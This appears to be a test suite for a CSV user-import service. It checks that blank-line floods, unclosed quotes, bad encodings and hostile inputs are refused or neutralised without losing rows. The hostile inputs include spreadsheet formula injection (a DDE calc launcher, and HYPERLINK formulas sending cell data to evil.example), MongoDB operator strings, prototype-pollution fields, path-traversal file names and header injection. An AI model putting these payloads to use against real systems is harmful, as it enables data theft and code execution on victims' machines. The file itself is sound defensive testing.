/**
 * Hostile rows, run through a real import worker: blank-line floods, quotes that never close,
 * encodings and control characters past the 64 KiB the door inspects, formula and operator
 * injection in cells, spoofed usernames, role and group injection, hostile file names. Every
 * case checks that no row is silently lost: total = created + updated + unchanged + failed = the
 * non-blank data rows written. The last case exports everything these cases left in the
 * directory and uploads it again: it must change nothing.
 */
import iconv from 'iconv-lite';
import { UserModel } from '../../shared/data/userModel';
import { createGroups, errorsCsv, exportCsv, importCsv, uploadCsv, waitForImport } from '../support/importHelpers';
import { startTestService, type TestService } from '../support/testService';
import {
  allCells,
  expectEveryRowAccounted,
  expectNoLeak,
  expectPrototypesClean,
  expectRefusal,
  expectStillServing,
  FORMULA_CELL,
  GOOD_CSV,
  type JobView,
  multipartBody,
  paddingRows,
  postRawUpload,
  reportedError,
  reportedRows,
} from './hostileKit';

let service: TestService;
beforeAll(async () => {
  service = await startTestService({}, { worker: true });
  await createGroups(service, 'Marketing', '@ops');
  await service.asAdmin().post('/api/custom-fields').send({ key: 'team', label: 'Team' });
});
afterAll(() => service.stop());

const user = (username: string) => UserModel.findOne({ usernameKey: username.normalize('NFC').toLowerCase() }).lean();
const csv = (header: string, rows: string[]) => `${header}\n${rows.join('\n')}\n`;

/**
 * Uploads, expects the door to accept, waits (at most `timeoutMs`) for the job to end. A job that
 * overruns is cancelled, so that it does not hold the worker for the cases after it.
 */
async function runImport(content: string | Buffer, timeoutMs = 15_000): Promise<JobView & { report: string }> {
  const upload = await uploadCsv(service, content);
  expect({ status: upload.status, body: upload.status === 202 ? 'accepted' : upload.body }).toEqual({ status: 202, body: 'accepted' });
  let job: JobView;
  try {
    job = (await waitForImport(service, upload.body.id, timeoutMs)) as JobView;
  } catch (error) {
    await service.asAdmin().post(`/api/imports/${upload.body.id}/cancel`);
    throw error;
  }
  return { ...job, report: await errorsCsv(service, job.id) };
}

describe('blank lines and quotes that never close (contracts 1 and 3)', () => {
  test('When 2 users are followed by 60,000 blank lines, then the import takes seconds, creates 2 and counts no blank row', async () => {
    const started = Date.now();
    const job = await runImport(`Email,Username\r\nblank1@example.com,blank1\r\nblank2@example.com,blank2\r\n${'\r\n'.repeat(60_000)}`, 8_000);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(job.status).toBe('completed');
    expect(job.counts).toMatchObject({ created: 2, failed: 0 });
    expectEveryRowAccounted(job, 2);
  });

  const numbered = (prefix: string, from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => `${prefix}${from + i}@example.com,${prefix}${from + i},Name${from + i}`);
  test.each<[string, string[], number, RegExp]>([
    ['row 3 of 50 opens a quote that never closes', [...numbered('uqa', 1, 2), 'uqa3@example.com,"uqa3,Carl', ...numbered('uqa', 4, 50)], 3, /quote/i],
    ['row 2 opens a quote and more than 64 KiB of rows follow without one', ['uqb1@example.com,uqb1,Ann', 'uqb2@example.com,uqb2,"Bob', ...numbered('uqb', 3, 2400)], 2, /quote/i],
    ['row 2 opens a quote that a stray quote closes only 64 KiB further down', ['uqd1@example.com,uqd1,Ann', 'uqd2@example.com,uqd2,"Bob', ...numbered('uqd', 3, 2399), 'uqd2400@example.com,uqd2400,Carl"'], 2, /quote/i],
    ['row 2 has a closed quoted cell of 70,000 characters on one line', ['uqc1@example.com,uqc1,Ann', `uqc2@example.com,uqc2,"${'a long note, '.repeat(5400)}"`, ...numbered('uqc', 3, 40)], 2, /First name .*longer than 100/i],
  ])('When %s, then only that row fails, with its number and what to fix, and every row after it is imported', async (name, rows, badRow, message) => {
    if (/64 KiB/.test(name)) expect(rows.slice(badRow - 1).join('\n').length).toBeGreaterThan(80 * 1024);
    const job = await runImport(csv('Email,Username,First Name', rows));
    expect(job.status).toBe('completed_with_errors');
    expect(job.counts).toMatchObject({ failed: 1, created: rows.length - 1 });
    expectEveryRowAccounted(job, rows.length);
    expect(reportedRows(job.report)).toEqual([badRow]);
    expect(reportedError(job.report, badRow)).toMatch(message);
    if (message.source === 'quote') expect(reportedError(job.report, badRow)).toMatch(/close/i);
    const last = rows[rows.length - 1].split(',')[1];
    expect(await user(last)).not.toBeNull();
  });
});

describe('what lies past the first 64 KiB the door inspects (contract 4)', () => {
  test('When a Windows-1252 file has its first accented name after 64 KiB, then the name arrives as José Müller, never as U+FFFD', async () => {
    const padding = paddingRows('cp');
    const bytes = iconv.encode(csv('Email,Username,First Name,Last Name', [...padding, 'jose.cp@example.com,jose.cp,José,Müller', 'zoe.cp@example.com,zoe.cp,Zoë,Ærø']), 'windows-1252');
    expect(bytes.indexOf(0xe9)).toBeGreaterThan(64 * 1024);
    const job = await runImport(bytes);
    expect(job.status).toBe('completed');
    expectEveryRowAccounted(job, padding.length + 2);
    expect(await user('jose.cp')).toMatchObject({ firstName: 'José', lastName: 'Müller' });
    expect(await user('zoe.cp')).toMatchObject({ firstName: 'Zoë', lastName: 'Ærø' });
    expect(await UserModel.countDocuments({ $or: [{ firstName: /\uFFFD/ }, { lastName: /\uFFFD/ }] })).toBe(0);
  });

  test('When cells after 64 KiB hold BEL, ESC and NUL, then each of those rows fails naming its column and the others import', async () => {
    const padding = paddingRows('ctl');
    const rows = [...padding, 'bel.ctl@example.com,bel.ctl,Be\u0007ll,Ok', 'esc.ctl@example.com,esc.ctl,Ok,Es\u001bc', 'nul.ctl@example.com,nul\u0000ctl,Ok,Ok', 'after.ctl@example.com,after.ctl,Ok,Ok'];
    const job = await runImport(csv('Email,Username,First Name,Last Name', rows));
    expect(job.status).toBe('completed_with_errors');
    expect(job.counts).toMatchObject({ failed: 3, created: padding.length + 1 });
    expectEveryRowAccounted(job, rows.length);
    const n = padding.length;
    expect(reportedRows(job.report)).toEqual([n + 1, n + 2, n + 3]);
    expect(reportedError(job.report, n + 1)).toMatch(/First name/i);
    expect(reportedError(job.report, n + 2)).toMatch(/Last name/i);
    expect(reportedError(job.report, n + 3)).toMatch(/Username/i);
    expect(await user('bel.ctl')).toBeNull();
    expect(await user('esc.ctl')).toBeNull();
    expect(await user('after.ctl')).not.toBeNull();
  });

  test('When the first data row is longer than 64 KiB, then the door accepts the file, that row fails for its length and the next imports', async () => {
    const job = await runImport(csv('Email,Username,First Name,Last Name', [`longrow@example.com,longrow,Long,${'L'.repeat(70_000)}`, 'shortrow@example.com,shortrow,Short,Row']));
    expect(job.status).toBe('completed_with_errors');
    expect(job.counts).toMatchObject({ failed: 1, created: 1 });
    expectEveryRowAccounted(job, 2);
    expect(reportedError(job.report, 1)).toMatch(/Last name .*longer than 100 characters/i);
    expect(await user('shortrow')).not.toBeNull();
  });
});

describe('hostile cell values', () => {
  test('When cells hold spreadsheet formulas, then the export and errors.csv write none of them as a formula', async () => {
    const job = await runImport(
      csv('Email,Username,First Name,Last Name,User groups,Team', [
        `formula1@example.com,formula1,"=cmd|' /C calc'!A0",@SUM(1+1),@ops,+1-2`,
        `formula2@example.com,formula2,-2+3,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,@team`,
        `not-an-address,formula3,"=HYPERLINK(""http://evil.example"",""x"")",+SUM(A1),@ops,=1+1`,
      ]),
    );
    expect(job.counts).toMatchObject({ created: 2, failed: 1 });
    expectEveryRowAccounted(job, 3);
    expect(await user('formula1')).toMatchObject({ firstName: "=cmd|' /C calc'!A0", lastName: '@SUM(1+1)', customFields: { team: '+1-2' } });

    const exported = (await exportCsv(service)).toString('utf8');
    expect(allCells(exported).filter((cell) => FORMULA_CELL.test(cell))).toEqual([]);
    expect(allCells(exported)).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'@ops", "'+1-2", "'-2+3", "'@team"]));
    expect(allCells(job.report).filter((cell) => FORMULA_CELL.test(cell))).toEqual([]);
    expect(reportedError(job.report, 3)).toMatch(/Email .*not a valid address/);
  });

  test('When usernames and external IDs look like MongoDB operators, then they are plain text: new users, nobody else matched or touched', async () => {
    await importCsv(service, 'Email,Username,First Name,External ID\nvictim@example.com,victim,Victim,EXT-VICTIM\n');
    const victim = await user('victim');
    const file = csv('Email,Username,First Name,External ID', [
      'op1@example.com,"{""$gt"":""""}",Op1,"{""$ne"":null}"',
      'op2@example.com,$where,Op2,"{""$regex"":"".*""}"',
      'op3@example.com,"{""$regex"":"".*""}",Op3,$in',
    ]);
    const job = await runImport(file);
    expect(job.status).toBe('completed');
    expect(job.counts).toMatchObject({ created: 3, updated: 0 });
    expectEveryRowAccounted(job, 3);
    expect(await user('{"$gt":""}')).toMatchObject({ firstName: 'Op1', externalId: '{"$ne":null}' });
    expect(await user('victim')).toEqual(victim);
    const again = await runImport(file);
    expect(again.counts).toMatchObject({ unchanged: 3, created: 0, updated: 0, failed: 0 });
  });

  test('When usernames are __proto__, constructor and toString, then they are ordinary users and __PROTO__ is a duplicate of row 1', async () => {
    const job = await runImport(csv('Email,Username,First Name', ['proto1@example.com,__proto__,P', 'proto2@example.com,constructor,C', 'proto3@example.com,toString,T', 'proto4@example.com,__PROTO__,Q']));
    expect(job.counts).toMatchObject({ created: 3, failed: 1 });
    expectEveryRowAccounted(job, 4);
    expect(reportedError(job.report, 4)).toMatch(/duplicate of row 1/);
    expect(await user('__proto__')).toMatchObject({ username: '__proto__', firstName: 'P' });
    expectPrototypesClean();
  });

  test('When role and group cells try to smuggle more ("Admin; superadmin", a $where group, a role on a second line), then each row fails naming what is unknown', async () => {
    const job = await runImport(
      csv('Email,Username,User groups,Roles', [
        'inj1@example.com,inj1,,Admin; superadmin',
        'inj2@example.com,inj2,Marketing; $where,',
        'inj3@example.com,inj3,,"Admin\nSuperadmin"',
        'inj4@example.com,inj4,Marketing,Learner;Reviewer',
      ]),
    );
    expect(job.counts).toMatchObject({ failed: 3, created: 1 });
    expectEveryRowAccounted(job, 4);
    expect(reportedError(job.report, 1)).toMatch(/Unknown role "superadmin"/);
    expect(reportedError(job.report, 2)).toMatch(/Unknown group "\$where"/);
    expect(reportedError(job.report, 3)).toMatch(/Unknown role|Roles/);
    for (const name of ['inj1', 'inj2', 'inj3']) expect(await user(name)).toBeNull();
    expect((await user('inj4'))?.roles).not.toContain('Admin');
  });

  test('When usernames differ only by case, spaces or Unicode normalisation (NFC/NFD), then the later rows are duplicates of the first', async () => {
    const job = await runImport(csv('Email,Username', ['nfc@example.com,José.nfc', 'nfd@example.com,Jose\u0301.nfc', 'upper@example.com,  JOSÉ.NFC  ']));
    expect(job.counts).toMatchObject({ created: 1, failed: 2 });
    expectEveryRowAccounted(job, 3);
    expect(reportedError(job.report, 2)).toMatch(/duplicate of row 1/);
    expect(reportedError(job.report, 3)).toMatch(/duplicate of row 1/);
  });

  // Invisible in a spreadsheet like the control characters the product already refuses, and they
  // make "nimda" look like "admin" or two usernames look the same at sign-in and in lists.
  test.each([
    ['a right-to-left override (U+202E)', 'rtl\u202Enimda'],
    ['a zero-width space (U+200B)', 'ad\u200Bmin'],
  ])('When a username contains %s, then the row fails naming the Username column', async (_name, username) => {
    const job = await runImport(csv('Email,Username', [`spoof${username.length}@example.com,${username}`, `fine${username.length}@example.com,fine.spoof${username.length}`]));
    expect(job.counts).toMatchObject({ failed: 1, created: 1 });
    expectEveryRowAccounted(job, 2);
    expect(reportedError(job.report, 1)).toMatch(/Username/i);
  });

  test('When emails are very long, then a 300-character one fails naming the limit and a valid 254-character one is created', async () => {
    const domain = `${'d'.repeat(60)}.${'e'.repeat(60)}.${'f'.repeat(60)}.example`;
    const longest = `${'l'.repeat(254 - domain.length - 1)}@${domain}`;
    const tooLong = `${'t'.repeat(300 - domain.length - 1)}@${domain}`;
    expect([longest.length, tooLong.length]).toEqual([254, 300]);
    const job = await runImport(csv('Email,Username', [`${tooLong},toolong.mail`, `${longest},longest.mail`]));
    expect(job.counts).toMatchObject({ failed: 1, created: 1 });
    expectEveryRowAccounted(job, 2);
    expect(reportedError(job.report, 1)).toMatch(/longer than 254 characters/);
    expect(await user('longest.mail')).toMatchObject({ email: longest });
  });

  test('When a row has 10,000 extra cells, then empty ones are ignored and non-empty ones fail the row with a short message', async () => {
    const job = await runImport(`Email,Username\nwide1@example.com,wide1${','.repeat(10_000)}\nwide2@example.com,wide2${',x'.repeat(10_000)}\n`);
    expect(job.counts).toMatchObject({ created: 1, failed: 1 });
    expectEveryRowAccounted(job, 2);
    expect(reportedError(job.report, 2)).toMatch(/cells but the header has 2 columns/);
    expect((reportedError(job.report, 2) as string).length).toBeLessThan(500);
  });

  test('When a custom field value is longer than 2,000 characters, then that row fails naming the field and a 2,000-character value is kept', async () => {
    const job = await runImport(csv('Email,Username,Team', [`team1@example.com,team1,${'t'.repeat(2001)}`, `team2@example.com,team2,${'t'.repeat(2000)}`]));
    expect(job.counts).toMatchObject({ created: 1, failed: 1 });
    expectEveryRowAccounted(job, 2);
    expect(reportedError(job.report, 1)).toMatch(/team/i);
    expect((await user('team2'))?.customFields).toEqual({ team: 't'.repeat(2000) });
  });

  test('When blank and delimiter-only rows sit between users, then they are not counted and the failing row keeps its spreadsheet number', async () => {
    const job = await runImport('Email,Username\nrow1@example.com,row1\n\n,\n  ,  \nnot-an-address,row5\nrow6@example.com,row6\n');
    expect(job.counts).toMatchObject({ created: 2, failed: 1 });
    expectEveryRowAccounted(job, 3);
    expect(reportedRows(job.report)).toEqual([5]);
  });
});

describe('hostile names and fields on an upload the door accepts', () => {
  const B = 'hostile-names';
  const upload = (disposition: string) => postRawUpload(service, `multipart/form-data; boundary=${B}`, multipartBody(B, [{ name: 'file', disposition, body: GOOD_CSV }]));
  test.each<[string, string]>([
    ['a path traversal', 'form-data; name="file"; filename="../../../etc/passwd.csv"'],
    ['Windows path separators', 'form-data; name="file"; filename="..\\..\\Windows\\System32\\users.csv"'],
    ['an encoded CRLF and header (RFC 5987 filename*)', "form-data; name=\"file\"; filename*=UTF-8''evil%0D%0AX-Injected%3A%201.csv"],
    ['quotes, a semicolon and HTML', 'form-data; name="file"; filename="a\\";x=<script>.csv"'],
    ['only ".."', 'form-data; name="file"; filename=".."'],
    ['an empty name', 'form-data; name="file"; filename=""'],
    ['20,000 characters', `form-data; name="file"; filename="${'x'.repeat(20_000)}.csv"`],
  ])('When the file name carries %s, then the upload is accepted or refused with a message, never a 500, and no download header carries it', async (_name, disposition) => {
    const response = await upload(disposition);
    expect([202, 400]).toContain(response.status);
    expectNoLeak(response.text);
    if (response.status === 400) {
      expectRefusal(response, { status: 400 });
      return;
    }
    expect(response.body.fileName).not.toMatch(/[/\\]|^\.\.$/);
    const report = await service.asAdmin().get(`/api/imports/${response.body.id}/errors.csv`);
    expect(report.status).toBe(200);
    expect(report.headers['content-disposition']).toMatch(/^attachment; filename="?[\w.-]+"?$/);
    await waitForImport(service, response.body.id);
    await expectStillServing(service);
  });

  test('When multipart field names try prototype pollution (__proto__[x], constructor[prototype][x]), then nothing is polluted and the settings stay defaults', async () => {
    const response = await postRawUpload(
      service,
      `multipart/form-data; boundary=${B}`,
      multipartBody(B, [
        { name: '__proto__[polluted]', body: 'yes' },
        { name: 'constructor[prototype][isAdmin]', body: 'yes' },
        { name: '__proto__[dryRun]', body: 'true' },
        { name: 'file', filename: 'users.csv', body: GOOD_CSV },
      ]),
    );
    expect(response.status).toBe(202);
    expect(response.body.settings).toEqual({ sendInvitations: false, groupsMode: 'add', rolesMode: 'add', dryRun: false });
    expectPrototypesClean();
    await waitForImport(service, response.body.id);
  });
});

describe('the directory these hostile rows left behind', () => {
  test('When every user is exported and the file is uploaded again unchanged, then every row comes out unchanged', async () => {
    const users = await UserModel.countDocuments();
    expect(users).toBeGreaterThan(3000);
    const job = await runImport(await exportCsv(service), 30_000);
    expect(job.status).toBe('completed');
    expect(job.counts).toMatchObject({ unchanged: users, created: 0, updated: 0, failed: 0 });
    expectEveryRowAccounted(job, users);
  });
});
